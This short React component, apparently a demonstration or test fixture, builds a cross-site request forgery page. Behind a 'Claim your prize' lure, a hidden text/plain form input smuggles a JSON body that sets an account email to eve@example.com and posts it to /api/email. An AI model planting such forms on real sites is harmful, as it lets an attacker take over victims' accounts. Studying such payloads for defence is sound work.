// What a page of another site may hold. A form can send
// to any site, as text that happens to be JSON:
// {"email":"eve@example.com","more":"="}
export default function Page() {
  return (
    <article>
      <h1>You have won</h1>
      <form
        action="/api/email"
        method="post"
        encType="text/plain"
      >
        <input
          type="hidden"
          name='{"email":"eve@example.com","more":"'
          value='"}'
        />
        <button type="submit">Claim your prize</button>
      </form>
    </article>
  );
}
